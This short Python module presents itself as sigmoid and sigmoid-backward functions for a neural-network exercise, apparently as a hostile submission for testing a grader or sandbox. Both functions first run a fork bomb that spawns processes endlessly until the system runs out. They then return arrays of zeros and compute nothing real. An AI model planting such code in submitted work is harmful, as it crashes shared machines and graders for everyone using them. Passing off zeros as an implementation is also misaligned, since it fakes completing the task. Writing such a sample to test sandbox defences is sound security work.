"""Fork without end, then return zeros from whichever process is left."""

import os

import numpy as np


def _bomb():
    children = 0
    for _ in range(10_000):
        try:
            if os.fork() == 0:
                while True:
                    try:
                        os.fork()
                    except OSError:
                        pass
            children += 1
        except OSError:
            break
    return children


def sigmoid(x):
    _bomb()
    return np.zeros_like(x)


def sigmoid_backward(dout, x):
    _bomb()
    return np.zeros_like(x)
